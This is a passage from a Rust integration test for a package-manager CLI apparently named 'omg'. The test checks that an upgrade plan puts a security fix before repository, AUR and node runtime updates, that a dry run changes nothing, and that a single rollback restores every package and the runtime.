    ok(&s.omg(&["install", "--noconfirm", "aur-app", "wireshark-cli"]));
    ok(&s.omg(&["use", "node", "20.10.0"]));
    ok(&s.omg(&["audit", "--refresh"]));
    let before = s.q("-Q");
    assert!(before.contains("libgreet-arch 1.0-1"), "{before:?}");

    // Something new everywhere.
    s.root.publish(&[
        Spec::new("libgreet-arch", "1.1-1", "greeting library"),
        Spec::new("wireshark-cli", "2.6.1-1", "network analyzer"),
    ]);
    publish_app(&s.aur, "1.1-1");
    node.publish("20.11.0");

    // The plan in sections, the fix first; a dry run changes nothing
    // (its outline has the repositories as the last refresh found them).
    ok(&s.omg(&["sync"]));
    let run = s.omg(&["upgrade", "--all", "--dry-run"]);
    ok(&run);
    let plan = &run.stdout;
    let at = |text: &str| {
        plan.find(text)
            .unwrap_or_else(|| panic!("{text} is not in the plan:\n{plan}"))
    };
    assert!(
        at("security") < at("wireshark-cli 2.6.0-1 -> 2.6.1-1"),
        "{plan}"
    );
    assert!(at("wireshark-cli") < at("repositories"), "{plan}");
    assert!(
        at("repositories") < at("libgreet-arch 1.0-1 -> 1.1-1"),
        "{plan}"
    );
    assert!(at("AUR") < at("aur-app 1.0-1 -> 1.1-1"), "{plan}");
    assert!(at("runtimes") < at("node 20.10.0 -> 20.11.0"), "{plan}");
    assert!(plan.contains("AVG-708"), "{plan}");
    assert_eq!(s.q("-Q"), before, "a dry run changes nothing");

    let run = s.omg(&["upgrade", "--all", "--noconfirm"]);
    ok(&run);
    let after = s.q("-Q");
    for now in [
        "libgreet-arch 1.1-1",
        "wireshark-cli 2.6.1-1",
        "aur-app 1.1-1",
    ] {
        assert!(after.contains(now), "{now}: {after:?}\n{}", run.stdout);
    }
    assert_eq!(node_default(&s), "20.11.0", "the default follows its line");
    assert!(
        s.env.data_dir().join("versions/node/20.10.0").is_dir(),
        "the old release stays for a rollback"
    );

    // One rollback: the repository packages, the AUR package and the
    // runtime, together.
    let run = s.omg(&["rollback", "--noconfirm"]);
    ok(&run);
    assert!(run.stdout.contains("rolling back"), "{}", run.stdout);
    assert_eq!(s.q("-Q"), before, "{}\n{}", run.stdout, run.stderr);
    assert_eq!(node_default(&s), "20.10.0");
    assert!(!s.env.data_dir().join("versions/node/20.11.0").exists());
}
